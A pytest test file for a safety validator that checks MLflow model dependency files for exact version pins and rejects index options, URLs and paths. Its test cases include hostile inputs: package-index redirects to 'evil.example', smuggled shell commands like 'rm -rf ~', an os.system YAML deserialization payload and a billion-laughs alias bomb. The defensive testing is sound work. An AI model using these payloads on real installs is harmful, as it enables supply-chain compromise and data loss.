"""Nothing but names with one version each may be installed for a model."""

import pytest

from lifecycle.domain.verdict import Outcome

CONDA = """
channels:
- conda-forge
dependencies:
- python=3.11.7
- pip<=23.2.1
- pip:
  - mlflow==3.17.2
  - scikit-learn==1.9.1
name: mlflow-env
"""
PYTHON_ENV = """
python: 3.11.7
build_dependencies:
- pip==23.2.1
- setuptools==65.5.0
- wheel
dependencies:
- -r requirements.txt
"""

OPTIONS = [
    "--index-url https://evil.example/simple",
    "--extra-index-url=https://evil.example/simple",
    "-i https://evil.example/simple",
    "-f https://evil.example",
    "--find-links ./wheels",
    "--trusted-host evil.example",
    "--pre",
    "-r other.txt",
    "-r ../requirements.txt",
    "-c https://evil.example/constraints.txt",
    "-e .",
    "-e git+https://evil.example/x#egg=x",
    "git+https://evil.example/x",
    "numpy @ https://evil.example/numpy.whl",
    "numpy @ file:///srv/numpy.whl",
    "https://evil.example/numpy.whl",
    "./numpy.whl",
    "/srv/numpy.whl",
    "numpy==2.0; rm -rf ~",
    "numpy==2.0 && touch x",
    "numpy==2.0 --global-option=x",
    "numpy==2.0 --config-settings=x",
    "numpy==2.0 --hash=md5:00",
    "$(touch x)",
    "`touch x`",
    "${HOME}",
    "numpy==2.0 | tee x",
    "numpy==2.0\\\n--index-url=https://evil.example",
    "numpy==2.0\f--pre",
    "numpy==2.0\r--pre",
]


@pytest.mark.parametrize("line", OPTIONS)
def test_an_option_an_address_or_a_path_fails(line, folder, verdict_on):
    folder.write("requirements.txt", f"mlflow==3.17.2\n{line}\n")
    verdict = verdict_on(folder, allow_unpinned=True)
    assert (verdict.outcome, verdict.reason) == (Outcome.FAILED, "safety.option_in_requirements")
    assert "evil.example" not in verdict.message, "an address may hold a password"


@pytest.mark.parametrize("line", ["numpy", "numpy>=2", "numpy~=2.0", "numpy==2.*", "numpy<3,>=2", "numpy[extra]"])
def test_an_open_version_fails_unless_the_operator_allows_it(line, folder, verdict_on):
    folder.write("requirements.txt", f"mlflow==3.17.2\n{line}")
    verdict = verdict_on(folder)
    assert (verdict.outcome, verdict.reason) == (Outcome.FAILED, "safety.unpinned")
    assert "numpy" in verdict.message
    assert verdict_on(folder, allow_unpinned=True).outcome is Outcome.PASSED


PINNED = [
    "numpy==2.0",
    "numpy===2.0",
    "numpy == 2.0  # for speed",
    "numpy==2.0 ; python_version < '3.13'",
    "numpy[extra]==2.0",
    "numpy==2.0 --hash=sha256:00ff --hash=sha512:00ff",
    "numpy==2.0 \\\n    --hash=sha256:00ff",
    "# a remark",
    "",
    "-c constraints.txt",
    "wheel",
]


@pytest.mark.parametrize("line", PINNED)
def test_a_pinned_name_passes(line, folder, verdict_on):
    folder.write("requirements.txt", f"mlflow==3.17.2\n{line}\n")
    verdict = verdict_on(folder)
    assert verdict.outcome is Outcome.PASSED, verdict.message


def test_what_mlflow_writes_for_conda_and_virtualenv_passes(folder, verdict_on):
    folder.write("conda.yaml", CONDA)
    folder.write("python_env.yaml", PYTHON_ENV)
    verdict = verdict_on(folder)
    assert verdict.outcome is Outcome.PASSED, verdict.message


@pytest.mark.parametrize(
    ("file", "text", "reason"),
    [
        (
            "conda.yaml",
            CONDA.replace("mlflow==3.17.2", "--index-url https://evil.example"),
            "option_in_requirements",
        ),
        ("conda.yaml", CONDA.replace("- conda-forge", "- https://evil.example"), "option_in_requirements"),
        ("conda.yaml", CONDA.replace("python=3.11.7", "https://evil.example/x.conda"), "option_in_requirements"),
        ("conda.yaml", CONDA.replace("python=3.11.7", "evil::numpy=2.0"), "option_in_requirements"),
        ("conda.yaml", CONDA.replace("python=3.11.7", "numpy=2.0"), "passed"),
        ("conda.yaml", CONDA.replace("python=3.11.7", "numpy"), "unpinned"),
        ("conda.yaml", CONDA.replace("mlflow==3.17.2", "mlflow"), "unpinned"),
        ("conda.yaml", CONDA.replace("pip:", "npm:").replace("mlflow==3.17.2", "-e ."), "option_in_requirements"),
        ("conda.yaml", "!!python/object/apply:os.system ['true']", "broken"),
        ("conda.yaml", "hello", "broken"),
        ("python_env.yaml", PYTHON_ENV.replace("-r requirements.txt", "-r evil.txt"), "option_in_requirements"),
        ("python_env.yaml", PYTHON_ENV.replace("wheel", "evil; touch x"), "option_in_requirements"),
        ("python_env.yaml", PYTHON_ENV.replace("wheel", "evil"), "unpinned"),
        ("constraints.txt", "--index-url https://evil.example", "option_in_requirements"),
        ("requirements.txt", b"\xff\xfe", "broken"),
    ],
)
def test_every_file_that_says_what_to_install_is_judged(file, text, reason, folder, verdict_on):
    folder.write(file, text)
    assert verdict_on(folder).reason == f"safety.{reason}"


@pytest.mark.parametrize("place", ["dependencies: [*l29]", "dependencies: [{pip: [*l29]}]", "channels: [*l29]"])
def test_aliases_of_yaml_are_no_lines(place, folder, verdict_on):
    laughs = "\n".join(f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 30))
    folder.write("conda.yaml", f"l0: &l0 [ha]\n{laughs}\n{place}\n")
    assert verdict_on(folder).reason == "safety.option_in_requirements"


def test_a_file_that_mlmodel_names_for_it_is_judged(folder, verdict_on):
    folder.mlmodel(python={"env": {"conda": "other.yaml"}})
    folder.write("other.yaml", CONDA.replace("mlflow==3.17.2", "-e ."))
    assert verdict_on(folder).reason == "safety.option_in_requirements"
